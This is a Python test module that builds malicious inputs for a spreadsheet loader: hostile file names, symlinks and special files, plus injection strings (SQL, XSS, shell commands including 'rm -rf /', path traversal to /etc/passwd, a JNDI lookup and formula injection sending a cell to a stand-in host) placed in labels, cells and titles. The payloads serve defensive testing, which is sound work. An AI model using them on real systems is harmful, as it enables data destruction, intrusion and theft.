"""Faults of names and files: a sound sheet under a name, or in a form, that means harm."""

from __future__ import annotations

import os
import socket
from pathlib import Path

from tests.faults.corpus.kind import ARBEITSLOSE, Kind, drawn, plain

GROUP = "names and files"
ORDER = "injection"


def named(name: str, file: str, state: str = "loaded", code: str = "", says: str = "") -> Kind:
    """The sound sheet under a name."""
    return Kind(GROUP, name, plain, state, code, says=says, file=file)


def _link(path: Path) -> None:
    target = path.with_name(f".ziel-{path.name}")
    target.write_bytes(plain())
    path.symlink_to(target)


def _hard_link(path: Path) -> None:
    path.with_name(f".ziel-{path.name}").write_bytes(plain())
    os.link(path.with_name(f".ziel-{path.name}"), path)


def _socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        here = Path.cwd()
        os.chdir(path.parent)  # the path of a socket may have 107 bytes only
        try:
            made.bind(path.name)
        finally:
            os.chdir(here)


def _nothing(path: Path) -> None:
    assert not path.exists()


def payload(name: str, text: str) -> Kind:
    """A label that means harm to whoever prints, stores or renders it."""
    return Kind(
        ORDER,
        f"a label: {name}",
        lambda: drawn(rename={"Integrationen": text}),
        "quarantined",
        "UNKNOWN_ROW",
        "A8",
    )


def value(name: str, text: str) -> Kind:
    """A cell that means harm."""
    return Kind(
        ORDER,
        f"a cell: {name}",
        lambda: drawn(cells={(ARBEITSLOSE, "Monat"): text}),
        "quarantined",
        "",
        "B6",
    )


PAYLOADS = {
    "SQL": "x'); DROP TABLE fact; --",
    "SQL of PostgreSQL": "x'||(SELECT pg_sleep(60))||'",
    "a script": "<script>alert(1)</script>",
    "a picture that loads": '<img src=x onerror="alert(1)">',
    "a template": "{{ 7*7 }}{% for x in y %}",
    "a format string": "%s%n{0}{x.__class__}",
    "a shell's command": "$(touch /tmp/x)`id`; rm -rf /",
    "escape sequences": "Neu_x001B_[2J_x001B_]0;x_x0007_",
    "a line of a log": "Neu\n[OK] loaded: everything",
    "a path": "../../../../etc/passwd",
    "YAML": "&a [*a, *a]",
    "Markdown": "[klick](javascript:alert(1)) | a | b |",
    "a lookup": "${jndi:ldap://x.example/a}",
    "a table's bar": "a | b | c\n|---|---|",
}


def titled(name: str) -> Kind:
    """A sheet that loads although its title means harm."""
    title = f"Monatszahlen {PAYLOADS[name]}"
    return Kind(ORDER, f"the title: {name}", lambda: drawn(title=title), "loaded")


FORMULAS = {
    "a program": "=cmd|'/c calc'!A0",
    "an address": '=WEBSERVICE("http://x.example/"&A1)',
    "with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "with a plus": "+1+1",
    "with a tab": "\t=1+1",
}
KINDS = [
    named("an escape sequence", "Lage \x1b[2J\x1b]0;x\x07.xlsx"),
    named("a line break", "Lage\n[OK] geladen.xlsx"),
    named("a carriage return", "Lage\rneu.xlsx"),
    named("turned by a control character", "Lage \u202exslx.exe.xlsx"),
    named("a formula", "=1+1.xlsx"),
    named("a call of a program", "@SUM(1)|cmd.xlsx"),
    named("like an option", "--help.xlsx"),
    named("like a pattern", "*.[x]?.xlsx"),
    named("quotes", "a'b\"c;d.xlsx"),
    named("SQL", "'); DROP TABLE fact;--.xlsx"),
    named("a script", "<script>alert(1)<.xlsx"),
    named("a shell's command", "$(touch x)`id`.xlsx"),
    named("percent signs", "%s%n%00.xlsx"),
    named("230 characters", "n" * 225 + ".xlsx"),
    named("255 bytes", "n" * 250 + ".xlsx"),
    named("umlauts in two forms", "A\u0308mter und Ämter.xlsx"),
    named("a smile", "Zahlen 😀.xlsx"),
    named("bytes that are no text", os.fsdecode(b"Lage \xff\xfe\x80.xlsx")),
    named("blanks around it", "  Lage  .xlsx"),
    named("a device of Windows", "CON.xlsx"),
    named("no ending", "Monatszahlen"),
    named("two endings", "Monatszahlen.xlsx.exe"),
    named("the ending of a PDF", "Monatszahlen.pdf"),
    named("capitals", "MONATSZAHLEN.XLSX"),
    Kind(
        GROUP,
        "another month",
        lambda: drawn(gap=2),
        "quarantined",
        "CONTRADICTION",
        file="Monatszahlen Oktober 2020.xlsx",
    ),
    Kind(
        GROUP,
        "another Kreis",
        lambda: drawn(title="Monatszahlen"),
        "quarantined",
        "OTHER_REGION",
        file="Monatszahlen Wetteraukreis.xlsx",
    ),
    Kind(
        GROUP,
        "another code",
        lambda: drawn(title="Monatszahlen"),
        "quarantined",
        "OTHER_REGION",
        file="Monatszahlen AGS 06440.xlsx",
    ),
    Kind(
        GROUP,
        "a link to a file",
        b"",
        "absent",
        "LINK",
        place=_link,
        says="is a link",
        file="Link.xlsx",
    ),
    Kind(
        GROUP,
        "a link to nothing",
        b"",
        "absent",
        place=lambda path: path.symlink_to("gone"),
        file="Leerer Link.xlsx",
    ),
    Kind(
        GROUP,
        "a link to itself",
        b"",
        "absent",
        place=lambda path: path.symlink_to(path.name),
        file="Kreis-Link.xlsx",
    ),
    Kind(
        GROUP,
        "a link to a device",
        b"",
        "absent",
        place=lambda path: path.symlink_to("/dev/zero"),
        file="Null.xlsx",
    ),
    Kind(GROUP, "a second name of a file", b"", "loaded", place=_hard_link, file="Zweitname.xlsx"),
    Kind(GROUP, "a folder", b"", "absent", place=Path.mkdir, file="Ordner.xlsx"),
    Kind(GROUP, "a pipe", b"", "absent", place=os.mkfifo, file="Pipe.xlsx"),
    Kind(GROUP, "a socket", b"", "absent", place=_socket, file="Socket.xlsx"),
    Kind(GROUP, "not there", b"", "absent", place=_nothing, file="Fort.xlsx"),
    *(payload(name, text) for name, text in PAYLOADS.items()),
    *(value(name, text) for name, text in FORMULAS.items()),
    *(titled(name) for name in ("SQL", "a script", "a template", "a format string")),
]
